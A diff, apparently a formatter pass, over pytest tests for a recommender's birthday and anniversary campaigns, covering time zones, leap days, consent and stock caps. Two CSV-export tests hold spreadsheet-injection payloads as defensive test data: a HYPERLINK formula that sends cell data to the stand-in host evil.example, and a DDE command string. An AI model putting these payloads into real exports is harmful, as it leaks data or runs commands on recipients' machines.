@@ -19,18 +19,17 @@ import pytest
 from hypothesis import HealthCheck, given, settings as hsettings, strategies as st
 
 from recommender import campaigns, store
-from recommender.data import interactions
-from recommender.serving import keys
-from recommender.campaigns import occasions
-from recommender.models import registry
-from recommender.campaigns import CampaignRequest
+from recommender.campaigns import CampaignRequest, occasions
 from recommender.cli import cli
-from recommender.config import load_settings
-from recommender.errors import ConfigError, ValidationError
-from recommender.models.factor import FactorModel
 
 # Harmless once cli.py and create_app register these themselves.
 from recommender.cli.campaign import campaign
+from recommender.config import load_settings
+from recommender.data import interactions
+from recommender.errors import ConfigError, ValidationError
+from recommender.models import registry
+from recommender.models.factor import FactorModel
+from recommender.serving import keys
 
 if "campaign" not in cli.commands:
     cli.add_command(campaign)
@@ -43,8 +42,9 @@ CREATED = "2025-01-01T00:00:00Z"
 
 def make_shop(db, customers, *, products=None, marketing=None, personalization=(), events=()):
     """customers: (id, birth_date, anniversary_date, timezone); everyone has marketing consent unless told."""
-    store.upsert_customers(db, [(cid, f"{cid.lower()}@example.com", f"Name {cid}", b, a, tz, CREATED)
-                                for cid, b, a, tz in customers])
+    store.upsert_customers(
+        db, [(cid, f"{cid.lower()}@example.com", f"Name {cid}", b, a, tz, CREATED) for cid, b, a, tz in customers]
+    )
     if products is None:
         products = [(f"P{i}", f"Product {i}", "misc", 10.0, None, 0, None) for i in range(1, 11)]
     store.upsert_products(db, products)
@@ -101,15 +101,18 @@ def test_window_across_the_new_year_counts_next_years_dates():
     assert found == {1: ("2026-12-31", 2026), 2: ("2027-01-01", 2027), 3: ("2027-01-05", 2027)}
 
 
-@pytest.mark.parametrize("rule, run_date, expected", [
-    ("feb28", "2028-02-29", "2028-02-29"),  # leap year: the day itself, whatever the rule
-    ("mar1", "2028-02-29", "2028-02-29"),
-    ("feb28", "2028-02-28", None),           # leap year: not on the 28th
-    ("feb28", "2027-02-28", "2027-02-28"),
-    ("feb28", "2027-03-01", None),
-    ("mar1", "2027-02-28", None),
-    ("mar1", "2027-03-01", "2027-03-01"),
-])
+@pytest.mark.parametrize(
+    "rule, run_date, expected",
+    [
+        ("feb28", "2028-02-29", "2028-02-29"),  # leap year: the day itself, whatever the rule
+        ("mar1", "2028-02-29", "2028-02-29"),
+        ("feb28", "2028-02-28", None),  # leap year: not on the 28th
+        ("feb28", "2027-02-28", "2027-02-28"),
+        ("feb28", "2027-03-01", None),
+        ("mar1", "2027-02-28", None),
+        ("mar1", "2027-03-01", "2027-03-01"),
+    ],
+)
 def test_29_february_in_leap_and_non_leap_years(rule, run_date, expected):
     found, _ = window(["1992-02-29"], ["UTC"], date=run_date, days_ahead=0, feb29_rule=rule)
     assert found == ({0: (expected, int(expected[:4]))} if expected else {})
@@ -125,7 +128,7 @@ def test_time_zones_either_side_of_the_date_line():
     found, _ = window(["1990-01-14"] * 4, zones, at="2026-01-15T10:30:00Z", days_ahead=0)
     assert sorted(found) == [3]
     # --date means 12:00 UTC: Auckland and Kiritimati are already on the 16th, Hawaii and Samoa on the 15th.
-    assert occasions.run_instant("2026-01-15") == dt.datetime(2026, 1, 15, 12, tzinfo=dt.timezone.utc)
+    assert occasions.run_instant("2026-01-15") == dt.datetime(2026, 1, 15, 12, tzinfo=dt.UTC)
     found, _ = window(["1990-01-15"] * 4, zones, date="2026-01-15", days_ahead=0)
     assert sorted(found) == [2, 3]
     # The Auckland customer whose day has passed is found next year, not today.
@@ -134,8 +137,14 @@ def test_time_zones_either_side_of_the_date_line():
 
 
 def test_a_campaign_uses_each_customers_own_date(db, settings):
-    make_shop(db, [("NZ", "1990-01-15", None, "Pacific/Auckland"), ("HI", "1990-01-15", None, "Pacific/Honolulu"),
-                   ("KI", "1990-01-16", None, "Pacific/Kiritimati")])
+    make_shop(
+        db,
+        [
+            ("NZ", "1990-01-15", None, "Pacific/Auckland"),
+            ("HI", "1990-01-15", None, "Pacific/Honolulu"),
+            ("KI", "1990-01-16", None, "Pacific/Kiritimati"),
+        ],
+    )
     first = run(db, settings, date="2026-01-15", days_ahead=0)  # 12:00 UTC: Auckland is on the 16th
     assert sorted(o.customer_id for o in first.offers) == ["HI", "KI"]
     assert {o.customer_id: o.valid_from for o in first.offers} == {"HI": "2026-01-15", "KI": "2026-01-16"}
@@ -153,16 +162,26 @@ def test_missing_and_malformed_dates_and_unknown_zones_are_counted_not_fatal():
 
 
 ALL_DAYS = [str(d) for d in np.arange(np.datetime64("1992-01-01"), np.datetime64("1993-01-01"))]
-EXTREME_ZONES = ["Pacific/Kiritimati", "Pacific/Pago_Pago", "Pacific/Auckland", "Pacific/Honolulu", "UTC",
-                 "Etc/GMT+12", "Etc/GMT-14"]
+EXTREME_ZONES = [
+    "Pacific/Kiritimati",
+    "Pacific/Pago_Pago",
+    "Pacific/Auckland",
+    "Pacific/Honolulu",
+    "UTC",
+    "Etc/GMT+12",
+    "Etc/GMT-14",
+]
 
 
 @hsettings(max_examples=60, deadline=None)
-@given(st.datetimes(min_value=dt.datetime(2026, 1, 1), max_value=dt.datetime(2029, 12, 31)),
-       st.integers(0, 40), st.sampled_from(occasions.FEB29_RULES))
+@given(
+    st.datetimes(min_value=dt.datetime(2026, 1, 1), max_value=dt.datetime(2029, 12, 31)),
+    st.integers(0, 40),
+    st.sampled_from(occasions.FEB29_RULES),
+)
 def test_the_month_day_prefilter_never_drops_a_customer(naive, days_ahead, rule):
     """What the database is asked for (month-days near the run) loses no one the full scan finds."""
-    instant = naive.replace(tzinfo=dt.timezone.utc)
+    instant = naive.replace(tzinfo=dt.UTC)
     dates = [d for d in ALL_DAYS for _ in EXTREME_ZONES]
     zones = EXTREME_ZONES * len(ALL_DAYS)
     full = occasions.upcoming(dates, zones, instant, days_ahead, rule)
@@ -174,13 +193,26 @@ def test_the_month_day_prefilter_never_drops_a_customer(naive, days_ahead, rule)
 
 
 def test_date_quality_is_counted_over_all_customers(db, settings):
-    make_shop(db, [("A", "1990-06-03", None, "UTC"), ("B", "1991-02-29", None, "UTC"),
-                   ("C", "1990-04-31", "1990-13-01", "UTC"), ("D", None, None, "UTC"),
-                   ("E", "1990-06-04", None, "Mars/Olympus_Mons")])
+    make_shop(
+        db,
+        [
+            ("A", "1990-06-03", None, "UTC"),
+            ("B", "1991-02-29", None, "UTC"),
+            ("C", "1990-04-31", "1990-13-01", "UTC"),
+            ("D", None, None, "UTC"),
+            ("E", "1990-06-04", None, "Mars/Olympus_Mons"),
+        ],
+    )
     result = run(db, settings, occasion="all", date="2026-06-01", days_ahead=7)
     assert [o.customer_id for o in result.offers] == ["A"]
-    assert result.skipped["birthday"] == {"missing_date": 1, "malformed_date": 2, "unknown_timezone": 1,
-                                          "no_marketing_consent": 0, "already_offered": 0, "no_products": 0}
+    assert result.skipped["birthday"] == {
+        "missing_date": 1,
+        "malformed_date": 2,
+        "unknown_timezone": 1,
+        "no_marketing_consent": 0,
+        "already_offered": 0,
+        "no_products": 0,
+    }
     assert result.skipped["anniversary"]["missing_date"] == 4
     assert result.skipped["anniversary"]["malformed_date"] == 1
 
@@ -216,10 +248,17 @@ def test_a_million_customers_in_one_window():
     # Every birth year (1950-1999) is before 2026 and no window touches 29 February: a birthday is in the
     # window when its month and day are.
     june = {first: {f"06-{d:02d}" for d in range(first, first + 8)} for first in (1, 2)}
-    in_window = {"Europe/London": june[1], "America/New_York": june[1], "Asia/Tokyo": june[1],
-                 "Pacific/Auckland": june[2]}
-    expected = {row: (f"2026-{date[5:]}", 2026) for row, (date, zone) in enumerate(zip(dates, zones))
-                if date[5:] in in_window[zone]}
+    in_window = {
+        "Europe/London": june[1],
+        "America/New_York": june[1],
+        "Asia/Tokyo": june[1],
+        "Pacific/Auckland": june[2],
+    }
+    expected = {
+        row: (f"2026-{date[5:]}", 2026)
+        for row, (date, zone) in enumerate(zip(dates, zones))
+        if date[5:] in in_window[zone]
+    }
     assert found == expected
 
 
@@ -227,15 +266,25 @@ def test_a_million_customers_in_one_window():
 
 
 def test_run_makes_offers_with_codes_discounts_and_validity(db, settings):
-    make_shop(db, [("A", "1990-06-03", "2010-06-05", "UTC"), ("B", "1990-06-04", None, "Europe/London"),
-                   ("C", "1990-09-01", None, "UTC"), ("D", None, "2011-06-06", "UTC")])
+    make_shop(
+        db,
+        [
+            ("A", "1990-06-03", "2010-06-05", "UTC"),
+            ("B", "1990-06-04", None, "Europe/London"),
+            ("C", "1990-09-01", None, "UTC"),
+            ("D", None, "2011-06-06", "UTC"),
+        ],
+    )
     result = run(db, settings, occasion="all", date="2026-06-01", days_ahead=7)
     assert result.made() == {"birthday": 2, "anniversary": 1}
     # one live offer per customer: A's birthday comes first (campaigns.priority), their anniversary waits
     assert result.skipped["anniversary"]["lower_priority"] == 1
     rows = ledger(db)
     assert [(r["customer_id"], r["occasion"], r["occasion_year"]) for r in rows] == [
-        ("A", "birthday", 2026), ("B", "birthday", 2026), ("D", "anniversary", 2026)]
+        ("A", "birthday", 2026),
+        ("B", "birthday", 2026),
+        ("D", "anniversary", 2026),
+    ]
     a = next(o for o in result.offers if o.customer_id == "A" and o.occasion == "birthday")
     assert (a.discount, a.valid_from, a.valid_until, a.date) == (15.0, "2026-06-01", "2026-06-17", "2026-06-03")
     assert next(o for o in result.offers if o.occasion == "anniversary").discount == 10.0
@@ -247,7 +296,8 @@ def test_run_makes_offers_with_codes_discounts_and_validity(db, settings):
     assert [(d["customer_id"], d["endpoint"], d["mode"], d["reason"]) for d in decisions] == [
         ("A", "campaign:birthday", "non_personalized", "no_model"),
         ("B", "campaign:birthday", "non_personalized", "no_model"),
-        ("D", "campaign:anniversary", "non_personalized", "no_model")]
+        ("D", "campaign:anniversary", "non_personalized", "no_model"),
+    ]
     assert json.loads(decisions[0]["product_ids"]) == json.loads(rows[0]["products"])
 
 
@@ -263,8 +313,9 @@ def test_rerun_is_idempotent(db, settings):
 
 
 def test_overlapping_windows_and_next_year(db, settings):
-    make_shop(db, [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-10", None, "UTC"),
-                   ("N", "1990-01-02", None, "UTC")])
+    make_shop(
+        db, [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-10", None, "UTC"), ("N", "1990-01-02", None, "UTC")]
+    )
     assert {o.customer_id for o in run(db, settings, date="2026-06-01", days_ahead=7).offers} == {"A"}
     later = run(db, settings, date="2026-06-03", days_ahead=7)
     assert {o.customer_id for o in later.offers} == {"B"} and later.summary()["skipped"]["already_offered"] == 1
@@ -274,12 +325,17 @@ def test_overlapping_windows_and_next_year(db, settings):
     # A year later the same occasion is a new one.
     assert {o.customer_id for o in run(db, settings, date="2027-06-01", days_ahead=7).offers} == {"A"}
     assert [(r["customer_id"], r["occasion_year"]) for r in ledger(db)] == [
-        ("A", 2026), ("A", 2027), ("B", 2026), ("N", 2027)]
+        ("A", 2026),
+        ("A", 2027),
+        ("B", 2026),
+        ("N", 2027),
+    ]
 
 
 def test_consent_withdrawn_between_two_runs(db, settings):
-    make_shop(db, [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-12", None, "UTC")],
-              marketing={"A": True, "B": True})
+    make_shop(
+        db, [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-12", None, "UTC")], marketing={"A": True, "B": True}
+    )
     assert {o.customer_id for o in run(db, settings, date="2026-06-01", days_ahead=7).offers} == {"A"}
     store.set_consents(db, [("B", "marketing", False, "2026-06-02T00:00:00Z", "preference_centre")])
     second = run(db, settings, date="2026-06-06", days_ahead=7)
@@ -288,8 +344,11 @@ def test_consent_withdrawn_between_two_runs(db, settings):
 
 
 def test_no_consent_recorded_means_no_offer(db, settings):
-    make_shop(db, [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-03", None, "UTC"),
-                   ("C", "1990-06-03", None, "UTC")], marketing={"A": True, "B": False})
+    make_shop(
+        db,
+        [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-03", None, "UTC"), ("C", "1990-06-03", None, "UTC")],
+        marketing={"A": True, "B": False},
+    )
     result = run(db, settings, date="2026-06-01", days_ahead=7)
     assert [o.customer_id for o in result.offers] == ["A"]
     assert result.summary()["skipped"]["no_marketing_consent"] == 2
@@ -317,7 +376,9 @@ def test_a_failed_run_leaves_no_half_campaign(db, settings, tmp_path):
 
 @pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
 def test_export_columns(db, settings, tmp_path, suffix):
-    make_shop(db, [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-04", None, "UTC"), ("C", None, "2000-06-04", "UTC")])
+    make_shop(
+        db, [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-04", None, "UTC"), ("C", None, "2000-06-04", "UTC")]
+    )
     out = tmp_path / f"offers{suffix}"
     result = run(db, settings, occasion="all", date="2026-06-01", days_ahead=7, items=2, out=out)
     assert result.summary()["out"] == str(out)
@@ -345,14 +406,24 @@ def test_export_columns(db, settings, tmp_path, suffix):
 
 
 def test_never_hidden_expired_out_of_stock_or_already_bought(db, settings):
-    products = [("P1", "Bought", "misc", 5.0, None, 0, None), ("P2", "Hidden", "misc", 5.0, None, 1, None),
-                ("P3", "Gone", "misc", 5.0, 0, 0, None), ("P4", "Expires 4 June", "misc", 5.0, None, 0, "2026-06-04"),
-                ("P5", "Fine", "misc", 5.0, None, 0, None), ("P6", "Fine too", "misc", 5.0, 9, 0, None),
-                ("P7", "Also fine", "misc", 5.0, None, 0, None)]
+    products = [
+        ("P1", "Bought", "misc", 5.0, None, 0, None),
+        ("P2", "Hidden", "misc", 5.0, None, 1, None),
+        ("P3", "Gone", "misc", 5.0, 0, 0, None),
+        ("P4", "Expires 4 June", "misc", 5.0, None, 0, "2026-06-04"),
+        ("P5", "Fine", "misc", 5.0, None, 0, None),
+        ("P6", "Fine too", "misc", 5.0, 9, 0, None),
+        ("P7", "Also fine", "misc", 5.0, None, 0, None),
+    ]
     events = popular_events(["P1", "P2", "P3", "P4", "P5", "P6", "P7"])
     events.append(("A", "P1", "purchase", 1.0, 1_750_000_000))
-    make_shop(db, [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-06", None, "UTC")] + shoppers(),
-              products=products, personalization=[f"S{i}" for i in range(1, 7)], events=events)
+    make_shop(
+        db,
+        [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-06", None, "UTC")] + shoppers(),
+        products=products,
+        personalization=[f"S{i}" for i in range(1, 7)],
+        events=events,
+    )
     settings.campaigns.max_product_share = 1.0  # filters only: no spread rule
     result = run(db, settings, date="2026-06-01", days_ahead=7)
     got = {o.customer_id: o.product_ids for o in result.offers}
@@ -364,8 +435,13 @@ def test_per_product_cap_and_round_robin(db, settings):
     products = [("P1", "Scarce", "misc", 5.0, 2, 0, None), ("P2", "Scarce too", "misc", 5.0, 2, 0, None)]
     products += [(f"P{i}", f"Product {i}", "misc", 5.0, None, 0, None) for i in range(3, 9)]
     customers = [(f"C{i}", f"1990-06-0{i}", None, "UTC") for i in range(1, 5)]
-    make_shop(db, customers + shoppers(), products=products, personalization=[f"S{i}" for i in range(1, 7)],
-              events=popular_events(["P1", "P2", "P3", "P4", "P5", "P6"]))
+    make_shop(
+        db,
+        customers + shoppers(),
+        products=products,
+        personalization=[f"S{i}" for i in range(1, 7)],
+        events=popular_events(["P1", "P2", "P3", "P4", "P5", "P6"]),
+    )
     settings.campaigns.max_product_share = 1.0  # stock caps only: no spread rule
     result = run(db, settings, date="2026-06-01", days_ahead=7, items=2, dry_run=True)
     assert all(len(set(o.product_ids) & {"P1", "P2"}) == 1 for o in result.offers)
@@ -384,8 +460,13 @@ def test_per_product_cap_and_round_robin(db, settings):
 def test_allocation_is_reproducible_for_the_same_run(db, settings):
     products = [(f"P{i}", f"Product {i}", "misc", 5.0, 3, 0, None) for i in range(1, 9)]
     customers = [(f"C{i:02d}", f"1990-06-{i:02d}", None, "UTC") for i in range(1, 9)]
-    make_shop(db, customers + shoppers(), products=products, personalization=[f"S{i}" for i in range(1, 7)],
-              events=popular_events([f"P{i}" for i in range(1, 9)]))
+    make_shop(
+        db,
+        customers + shoppers(),
+        products=products,
+        personalization=[f"S{i}" for i in range(1, 7)],
+        events=popular_events([f"P{i}" for i in range(1, 9)]),
+    )
     first = run(db, settings, date="2026-06-01", days_ahead=7, dry_run=True)
     again = run(db, settings, date="2026-06-01", days_ahead=7, dry_run=True)
     assert [o.product_ids for o in first.offers] == [o.product_ids for o in again.offers]
@@ -393,11 +474,20 @@ def test_allocation_is_reproducible_for_the_same_run(db, settings):
 
 
 def test_gift_categories_come_first_inside_the_price_band(db, settings):
-    products = [("P1", "Cheap toy", "toys", 8.0, None, 0, None), ("P2", "Dear toy", "toys", 80.0, None, 0, None),
-                ("P3", "Mug", "kitchen", 9.0, None, 0, None), ("P4", "Pan", "kitchen", 12.0, None, 0, None),
-                ("P5", "Lamp", "home", 200.0, None, 0, None)]
-    make_shop(db, [("A", "1990-06-03", None, "UTC")] + shoppers(), products=products,
-              personalization=[f"S{i}" for i in range(1, 7)], events=popular_events(["P5", "P4", "P3", "P2", "P1"]))
+    products = [
+        ("P1", "Cheap toy", "toys", 8.0, None, 0, None),
+        ("P2", "Dear toy", "toys", 80.0, None, 0, None),
+        ("P3", "Mug", "kitchen", 9.0, None, 0, None),
+        ("P4", "Pan", "kitchen", 12.0, None, 0, None),
+        ("P5", "Lamp", "home", 200.0, None, 0, None),
+    ]
+    make_shop(
+        db,
+        [("A", "1990-06-03", None, "UTC")] + shoppers(),
+        products=products,
+        personalization=[f"S{i}" for i in range(1, 7)],
+        events=popular_events(["P5", "P4", "P3", "P2", "P1"]),
+    )
     settings.campaigns.birthday_categories = ("toys",)
     settings.campaigns.max_price = 50.0
     result = run(db, settings, date="2026-06-01", days_ahead=7)
@@ -413,48 +503,70 @@ def test_personalized_offers_from_the_trained_model(served):
     consent = store.consented_among(db, [o.customer_id for o in result.offers], "personalization")
     earliest = min(o.date for o in result.offers)
     rows = {r["id"]: r for r in store.all_products(db)}
-    allow = np.array([not rows[p]["hidden"] and rows[p]["in_stock"] != 0
-                      and (rows[p]["available_until"] or "9999") >= earliest for p in model.item_ids])
+    allow = np.array(
+        [
+            not rows[p]["hidden"] and rows[p]["in_stock"] != 0 and (rows[p]["available_until"] or "9999") >= earliest
+            for p in model.item_ids
+        ]
+    )
     for o in result.offers:
         assert (o.mode == "personalized") == (o.reason is None)
         if o.customer_id not in consent:
             assert o.reason == "no_consent"
         bought = {p for p, e, _, _ in store.customer_events(db, o.customer_id) if e == "purchase"}
         assert not bought & set(o.product_ids)
-        assert all(not rows[p]["hidden"] and rows[p]["in_stock"] != 0
-                   and (rows[p]["available_until"] or "9999") >= o.date for p in o.product_ids)
+        assert all(
+            not rows[p]["hidden"] and rows[p]["in_stock"] != 0 and (rows[p]["available_until"] or "9999") >= o.date
+            for p in o.product_ids
+        )
         if o.mode == "personalized":
             # The first pick comes from the customer's own ranking (its depth is 4k + 8), folded in from
             # their current history as the storefront does.
-            items, conf = interactions.customer_confidences(db, served, o.customer_id, model.item_index,
-                                                            model.manifest["data"]["reference_time"])
-            top, _ = model.recommend(model.recalculate_user(items, conf), 4 * 3 + 8,
-                                     exclude=np.array([model.item_index[p] for p in bought], dtype=np.int64),
-                                     allow=allow)
+            items, conf = interactions.customer_confidences(
+                db, served, o.customer_id, model.item_index, model.manifest["data"]["reference_time"]
+            )
+            top, _ = model.recommend(
+                model.recalculate_user(items, conf),
+                4 * 3 + 8,
+                exclude=np.array([model.item_index[p] for p in bought], dtype=np.int64),
+                allow=allow,
+            )
             assert model.item_index[o.product_ids[0]] in set(top.tolist())
 
 
 @hsettings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
-@given(st.lists(st.sampled_from([True, False, None]), min_size=8, max_size=8),
-       st.lists(st.booleans(), min_size=8, max_size=8))
+@given(
+    st.lists(st.sampled_from([True, False, None]), min_size=8, max_size=8),
+    st.lists(st.booleans(), min_size=8, max_size=8),
+)
 def test_no_customer_without_marketing_consent_ever_gets_an_offer(marketing, personal):
     with tempfile.TemporaryDirectory() as tmp:
         settings = load_settings(environ={}, overrides={"db": Path(tmp) / "shop.db", "model_dir": Path(tmp) / "m"})
         db = store.connect(settings.db, create=True)
         ids = [f"C{i}" for i in range(8)]
-        make_shop(db, [(c, f"1990-06-0{i + 2}", f"2001-06-0{i + 2}", "Pacific/Auckland") for i, c in enumerate(ids)],
-                  marketing={c: g for c, g in zip(ids, marketing) if g is not None},
-                  personalization=[c for c, p in zip(ids, personal) if p],
-                  events=[(c, f"P{i % 10 + 1}", "view", 1.0, 1_750_000_000) for i, c in enumerate(ids)])
+        make_shop(
+            db,
+            [(c, f"1990-06-0{i + 2}", f"2001-06-0{i + 2}", "Pacific/Auckland") for i, c in enumerate(ids)],
+            marketing={c: g for c, g in zip(ids, marketing) if g is not None},
+            personalization=[c for c, p in zip(ids, personal) if p],
+            events=[(c, f"P{i % 10 + 1}", "view", 1.0, 1_750_000_000) for i, c in enumerate(ids)],
+        )
         rng = np.random.default_rng(0)
-        model = FactorModel(rng.random((8, 4), np.float32), rng.random((10, 4), np.float32), ids,
-                            [f"P{i}" for i in range(1, 11)], 1.0, {"version": "test"})
+        model = FactorModel(
+            rng.random((8, 4), np.float32),
+            rng.random((10, 4), np.float32),
+            ids,
+            [f"P{i}" for i in range(1, 11)],
+            1.0,
+            {"version": "test"},
+        )
         result = run(db, settings, occasion="all", date="2026-06-01", days_ahead=10, model=model)
         allowed = {c for c, g in zip(ids, marketing) if g}
         assert {o.customer_id for o in result.offers} == allowed
         assert {r["customer_id"] for r in ledger(db)} == allowed
         assert {o.mode for o in result.offers if o.customer_id in allowed and personal[ids.index(o.customer_id)]} <= {
-            "personalized"}
+            "personalized"
+        }
         db.conn.close()
 
 
@@ -471,14 +583,31 @@ def test_cli_help_run_and_errors(runner, db, settings, tmp_path):
     dry = runner.invoke(cli, ["campaign", "run", "--occasion", "birthday", "--date", "2026-06-01", "--dry-run"])
     assert dry.exit_code == 0 and "dry run: nothing written to the ledger" in dry.output
     out = tmp_path / "offers.jsonl"
-    real = runner.invoke(cli, ["campaign", "run", "--occasion", "all", "--date", "2026-06-01", "--days-ahead", "3",
-                               "--items", "2", "--out", str(out), "--json"])
+    real = runner.invoke(
+        cli,
+        [
+            "campaign",
+            "run",
+            "--occasion",
+            "all",
+            "--date",
+            "2026-06-01",
+            "--days-ahead",
+            "3",
+            "--items",
+            "2",
+            "--out",
+            str(out),
+            "--json",
+        ],
+    )
     assert real.exit_code == 0, real.output
     summary = json.loads(real.output)
     assert summary["offers"] == {"birthday": 2, "anniversary": 0} and summary["written"] is True
     assert len(out.read_text().splitlines()) == 2 and store.counts(db)["offers"] == 2
-    again = json.loads(runner.invoke(cli, ["campaign", "run", "--occasion", "birthday", "--date", "2026-06-01",
-                                           "--json"]).output)
+    again = json.loads(
+        runner.invoke(cli, ["campaign", "run", "--occasion", "birthday", "--date", "2026-06-01", "--json"]).output
+    )
     assert again["offers_total"] == 0 and again["skipped"]["already_offered"] == 2
 
 
@@ -510,7 +639,7 @@ def offers_client(app):
 
 def test_api_active_offers_for_a_storefront(offers_client, served):
     db = store.connect(served.db)
-    today = dt.datetime.now(dt.timezone.utc).date()
+    today = dt.datetime.now(dt.UTC).date()
     result = run(db, served, occasion="all", date=today.isoformat(), days_ahead=7)
     offer = next(o for o in result.offers if o.valid_from <= today.isoformat())
     body = offers_client.get(f"/v1/customers/{offer.customer_id}/offers?date={today.isoformat()}").get_json()
@@ -568,10 +697,21 @@ def test_stock_caps_hold_across_runs_on_consecutive_days(db, settings):
     """P1 (the bestseller) has 2 units: day 1 promises both, day 2 none, after the codes expire it is free again."""
     products = [("P1", "Scarce", "misc", 5.0, 2, 0, None)]
     products += [(f"P{i}", f"Product {i}", "misc", 5.0, None, 0, None) for i in range(2, 7)]
-    customers = [("C1", "1990-06-01", None, "UTC"), ("C2", "1990-06-01", None, "UTC"), ("C3", "1990-06-01", None, "UTC"),
-                 ("D1", "1990-06-02", None, "UTC"), ("D2", "1990-06-02", None, "UTC"), ("E1", "1990-07-01", None, "UTC")]
-    make_shop(db, customers + shoppers(), products=products, personalization=[f"S{i}" for i in range(1, 7)],
-              events=popular_events(["P1", "P2", "P3", "P4", "P5", "P6"]))
+    customers = [
+        ("C1", "1990-06-01", None, "UTC"),
+        ("C2", "1990-06-01", None, "UTC"),
+        ("C3", "1990-06-01", None, "UTC"),
+        ("D1", "1990-06-02", None, "UTC"),
+        ("D2", "1990-06-02", None, "UTC"),
+        ("E1", "1990-07-01", None, "UTC"),
+    ]
+    make_shop(
+        db,
+        customers + shoppers(),
+        products=products,
+        personalization=[f"S{i}" for i in range(1, 7)],
+        events=popular_events(["P1", "P2", "P3", "P4", "P5", "P6"]),
+    )
     settings.campaigns.max_product_share = 1.0  # stock only
     day1 = run(db, settings, date="2026-06-01", days_ahead=0, items=1)
     assert sorted(o.product_ids[0] for o in day1.offers) == ["P1", "P1", "P2"]
@@ -591,10 +731,20 @@ def test_stock_caps_hold_across_runs_on_consecutive_days(db, settings):
 
 def test_max_per_product_holds_across_runs(db, settings):
     products = [(f"P{i}", f"Product {i}", "misc", 5.0, None, 0, None) for i in range(1, 7)]
-    customers = [("C1", "1990-06-01", None, "UTC"), ("C2", "1990-06-01", None, "UTC"), ("C3", "1990-06-01", None, "UTC"),
-                 ("D1", "1990-06-02", None, "UTC"), ("D2", "1990-06-02", None, "UTC")]
-    make_shop(db, customers + shoppers(), products=products, personalization=[f"S{i}" for i in range(1, 7)],
-              events=popular_events(["P1", "P2", "P3", "P4", "P5", "P6"]))
+    customers = [
+        ("C1", "1990-06-01", None, "UTC"),
+        ("C2", "1990-06-01", None, "UTC"),
+        ("C3", "1990-06-01", None, "UTC"),
+        ("D1", "1990-06-02", None, "UTC"),
+        ("D2", "1990-06-02", None, "UTC"),
+    ]
+    make_shop(
+        db,
+        customers + shoppers(),
+        products=products,
+        personalization=[f"S{i}" for i in range(1, 7)],
+        events=popular_events(["P1", "P2", "P3", "P4", "P5", "P6"]),
+    )
     settings.campaigns.max_product_share = 1.0
     run(db, settings, date="2026-06-01", days_ahead=0, items=1, max_per_product=2)
     assert offered_units(db) == {"P1": 2, "P2": 1}
@@ -607,8 +757,13 @@ def test_max_per_product_holds_across_runs(db, settings):
 def test_spread_rule_keeps_one_product_out_of_most_offers(db, settings):
     products = [(f"P{i}", f"Product {i}", "misc", 5.0, None, 0, None) for i in range(1, 9)]
     customers = [(f"C{i}", f"1990-06-0{i}", None, "UTC") for i in range(1, 9)]
-    make_shop(db, customers + shoppers(), products=products, personalization=[f"S{i}" for i in range(1, 7)],
-              events=popular_events([f"P{i}" for i in range(1, 7)]))
+    make_shop(
+        db,
+        customers + shoppers(),
+        products=products,
+        personalization=[f"S{i}" for i in range(1, 7)],
+        events=popular_events([f"P{i}" for i in range(1, 7)]),
+    )
     settings.campaigns.max_product_share = 1.0
     crowded = run(db, settings, date="2026-06-01", days_ahead=7, items=2, dry_run=True)
     assert all(o.product_ids == ["P1", "P2"] for o in crowded.offers)  # without the rule: the same two for all
@@ -643,8 +798,18 @@ def test_bad_spread_setting_is_a_config_error(db, settings):
 def test_csv_cells_that_a_spreadsheet_would_evaluate_are_quoted():
     from recommender import csvsafe
 
-    cases = {"=1+1": "'=1+1", "+41 79": "'+41 79", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx",
-             "\rx": "'\rx", "Ann": "Ann", "": "", " =x": " =x", "a=b": "a=b"}
+    cases = {
+        "=1+1": "'=1+1",
+        "+41 79": "'+41 79",
+        "-2": "'-2",
+        "@SUM(A1)": "'@SUM(A1)",
+        "\tx": "'\tx",
+        "\rx": "'\rx",
+        "Ann": "Ann",
+        "": "",
+        " =x": " =x",
+        "a=b": "a=b",
+    }
     assert {k: csvsafe.cell(k) for k in cases} == cases
     assert csvsafe.cell(-5) == -5 and csvsafe.cell(15.0) == 15.0 and csvsafe.cell(None) is None
 
@@ -652,8 +817,9 @@ def test_csv_cells_that_a_spreadsheet_would_evaluate_are_quoted():
 def test_campaign_csv_export_neutralises_formulas(db, settings, tmp_path):
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     store.upsert_customers(db, [("A", "a@example.com", evil, "1990-06-03", None, "UTC", CREATED)])
-    store.upsert_products(db, [("P1", "=cmd|' /C calc'!A0", "misc", 5.0, None, 0, None),
-                               ("P2", "@SUM(1+1)", "misc", 5.0, None, 0, None)])
+    store.upsert_products(
+        db, [("P1", "=cmd|' /C calc'!A0", "misc", 5.0, None, 0, None), ("P2", "@SUM(1+1)", "misc", 5.0, None, 0, None)]
+    )
     store.set_consents(db, [("A", "marketing", True, CREATED, "test")])
     out = tmp_path / "offers.csv"
     run(db, settings, date="2026-06-01", days_ahead=7, items=1, out=out)
@@ -706,12 +872,15 @@ def test_cli_out_needs_force_to_replace(runner, db, settings, tmp_path):
     out.write_text("keep me\n")
     help_text = runner.invoke(cli, ["campaign", "run", "--help"]).output
     assert "--force" in help_text and "preview" in help_text
-    refused = runner.invoke(cli, ["campaign", "run", "--occasion", "birthday", "--date", "2026-06-01",
-                                  "--out", str(out)])
+    refused = runner.invoke(
+        cli, ["campaign", "run", "--occasion", "birthday", "--date", "2026-06-01", "--out", str(out)]
+    )
     assert refused.exit_code != 0 and len(refused.output.strip().splitlines()) == 1
     assert refused.output.startswith("Error:") and "--force" in refused.output and out.read_text() == "keep me\n"
-    done = runner.invoke(cli, ["campaign", "run", "--occasion", "birthday", "--date", "2026-06-01",
-                               "--out", str(out), "--force", "--json"])
+    done = runner.invoke(
+        cli,
+        ["campaign", "run", "--occasion", "birthday", "--date", "2026-06-01", "--out", str(out), "--force", "--json"],
+    )
     assert done.exit_code == 0, done.output
